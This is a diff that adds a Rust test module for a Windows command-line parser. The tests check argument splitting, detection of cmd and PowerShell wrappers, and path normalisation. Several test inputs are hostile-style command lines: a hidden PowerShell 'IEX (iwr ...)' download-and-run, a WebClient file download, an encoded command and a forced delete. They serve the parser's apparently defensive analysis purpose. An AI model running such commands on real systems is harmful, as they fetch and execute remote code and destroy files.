@@ -0,0 +1,152 @@
+#[cfg(test)]
+mod tests {
+    use jobfileparser::cmdline::{normalize_path, split};
+    use jobfileparser::CommandLine;
+
+    #[test]
+    fn test_split() {
+        let cases: &[(&str, &[&str])] = &[
+            (r#""C:\Program Files\App\app.exe" --flag"#, &[r"C:\Program Files\App\app.exe", "--flag"]),
+            (r#"a.exe "b c" d"#, &["a.exe", "b c", "d"]),
+            (r#"a.exe \"b c\""#, &["a.exe", "\"b", "c\""]),
+            (r#"a.exe "a\\\"b" c\\\\d"#, &["a.exe", r#"a\"b"#, r"c\\\\d"]),
+            (r#"a.exe "C:\dir\\" next"#, &["a.exe", r"C:\dir\", "next"]),
+            (r#"a.exe "say ""hi"" now""#, &["a.exe", r#"say "hi" now"#]),
+            (r#"a.exe ab"c d"e"#, &["a.exe", "abc de"]),
+            ("a.exe\t\tb   c  ", &["a.exe", "b", "c"]),
+            (r#""C:\dir\"app.exe x"#, &[r"C:\dir\app.exe", "x"]),
+            (r#"a.exe """#, &["a.exe", ""]),
+            ("", &[]),
+        ];
+        for (line, expected) in cases {
+            assert_eq!(split(line), *expected, "{}", line);
+        }
+    }
+
+    #[test]
+    fn test_executable() {
+        let cases = [
+            (r#""C:\Program Files\App\app.exe" --flag"#, r"C:\Program Files\App\app.exe", vec!["--flag"]),
+            (r"C:\Program Files\App\app.exe --flag", r"C:\Program Files\App\app.exe", vec!["--flag"]),
+            (r"C:\Program Files (x86)\Tool\run.CMD", r"C:\Program Files (x86)\Tool\run.CMD", vec![]),
+            ("notepad readme.txt", "notepad", vec!["readme.txt"]),
+            (r#"C:\Program Files\App\app "x y""#, r"C:\Program", vec!["Files\\App\\app", "x y"]),
+        ];
+        for (line, executable, arguments) in cases {
+            let command = CommandLine::parse(line).unwrap();
+            assert_eq!(command.executable, executable, "{}", line);
+            assert_eq!(command.arguments, arguments, "{}", line);
+            assert!(command.wrappers.is_empty());
+        }
+        assert_eq!(CommandLine::parse("  "), None);
+    }
+
+    fn unwrapped(line: &str) -> (Vec<String>, Option<String>, Option<String>) {
+        let command = CommandLine::parse(line).unwrap();
+        (command.wrappers, command.effective_command, command.effective_executable)
+    }
+
+    #[test]
+    fn test_interpreters() {
+        let cases: &[(&str, &[&str], &str, Option<&str>)] = &[
+            ("cmd /c whoami /all", &["cmd"], "whoami /all", Some("whoami")),
+            (
+                r#"C:\Windows\System32\cmd.exe /Q /C "del /f C:\x.txt & exit""#,
+                &["cmd.exe"],
+                r"del /f C:\x.txt & exit",
+                Some("del"),
+            ),
+            (
+                r#"cmd.exe /c "C:\Program Files\App\app.exe""#,
+                &["cmd.exe"],
+                r#""C:\Program Files\App\app.exe""#,
+                Some(r"C:\Program Files\App\app.exe"),
+            ),
+            (
+                r#"cmd /s /c ""C:\Program Files\App\app.exe" -x""#,
+                &["cmd"],
+                r#""C:\Program Files\App\app.exe" -x"#,
+                Some(r"C:\Program Files\App\app.exe"),
+            ),
+            (
+                "powershell.exe -NoProfile -ExecutionPolicy Bypass -WindowStyle Hidden -Command \"IEX (iwr http://x/a.ps1)\"",
+                &["powershell.exe"],
+                "IEX (iwr http://x/a.ps1)",
+                None,
+            ),
+            ("powershell -nop -w hidden -c Get-Process; exit", &["powershell"], "Get-Process; exit", None),
+            ("PowerShell -ep bypass -File C:\\s\\run.ps1 -Force", &["powershell"], "C:\\s\\run.ps1 -Force", Some("C:\\s\\run.ps1")),
+            // `whoami` as UTF-16LE, base64-encoded.
+            ("powershell -enc dwBoAG8AYQBtAGkA", &["powershell"], "whoami", None),
+            ("powershell Get-Date", &["powershell"], "Get-Date", None),
+            ("pwsh -NoLogo C:\\s\\run.ps1", &["pwsh"], "C:\\s\\run.ps1", Some("C:\\s\\run.ps1")),
+            (
+                r#"wscript.exe //B //NoLogo "C:\Users\Public\a b.vbs" arg"#,
+                &["wscript.exe"],
+                r#""C:\Users\Public\a b.vbs" arg"#,
+                Some(r"C:\Users\Public\a b.vbs"),
+            ),
+            (
+                "explorer.exe shell:AppsFolder\\Microsoft.WindowsCalculator_8wekyb3d8bbwe!App",
+                &["explorer.exe"],
+                "shell:AppsFolder\\Microsoft.WindowsCalculator_8wekyb3d8bbwe!App",
+                Some("shell:AppsFolder\\Microsoft.WindowsCalculator_8wekyb3d8bbwe!App"),
+            ),
+            (
+                "cmd /c start /b powershell -c \"calc\"",
+                &["cmd"],
+                "start /b powershell -c \"calc\"",
+                Some("start"),
+            ),
+            (
+                "cmd /c powershell -c \"(New-Object Net.WebClient).DownloadFile('http://x','a.exe')\"",
+                &["cmd", "powershell"],
+                "(New-Object Net.WebClient).DownloadFile('http://x','a.exe')",
+                None,
+            ),
+            (
+                r#"cmd /c "cscript //nologo C:\a.js""#,
+                &["cmd", "cscript"],
+                r"C:\a.js",
+                Some(r"C:\a.js"),
+            ),
+        ];
+        for (line, wrappers, effective, executable) in cases {
+            let (got_wrappers, got_effective, got_executable) = unwrapped(line);
+            assert_eq!(got_wrappers, *wrappers, "{}", line);
+            assert_eq!(got_effective.as_deref(), Some(*effective), "{}", line);
+            assert_eq!(got_executable.as_deref(), *executable, "{}", line);
+        }
+    }
+
+    #[test]
+    fn test_not_wrapped() {
+        for line in ["cmd", "cmd /k", "cmd /q", "powershell -NoProfile", "explorer.exe", "wscript //B", "rundll32 a.dll,Go"] {
+            assert_eq!(unwrapped(line), (vec![], None, None), "{}", line);
+        }
+    }
+
+    #[test]
+    fn test_from_parts_and_normalized() {
+        let quoted = CommandLine::from_parts(r#""C:\Program Files\App\app.exe""#, r#"--name "a b" --path C:\dir\"#);
+        let bare = CommandLine::parse(r#"C:\Program Files\App\app.exe --name "a b"  --path C:\dir\"#).unwrap();
+        assert_eq!(quoted, bare);
+        let normalized = quoted.normalized();
+        assert_eq!(normalized, r#""C:\Program Files\App\app.exe" --name "a b" --path C:\dir\"#);
+        assert_eq!(CommandLine::parse(&normalized).unwrap(), quoted);
+
+        let tricky = CommandLine::from_parts("a.exe", r#""say \"hi\"" "C:\dir\\" """#);
+        assert_eq!(tricky.arguments, [r#"say "hi""#, r"C:\dir\", ""]);
+        assert_eq!(CommandLine::parse(&tricky.normalized()).unwrap(), tricky);
+    }
+
+    #[test]
+    fn test_normalize_path() {
+        assert_eq!(normalize_path("%SystemRoot%\\System32\\a.exe"), "C:\\Windows\\System32\\a.exe");
+        assert_eq!(normalize_path("\"%windir%/Temp/a.exe\""), "C:\\Windows\\Temp\\a.exe");
+        assert_eq!(normalize_path("%ProgramFiles(x86)%\\App"), "C:\\Program Files (x86)\\App");
+        assert_eq!(normalize_path("%LocalAppData%\\x"), "C:\\Users\\%USERNAME%\\AppData\\Local\\x");
+        assert_eq!(normalize_path("%MYAPP%\\bin\\%TEMP%"), "%MYAPP%\\bin\\C:\\Users\\%USERNAME%\\AppData\\Local\\Temp");
+        assert_eq!(normalize_path("100% done"), "100% done");
+    }
+}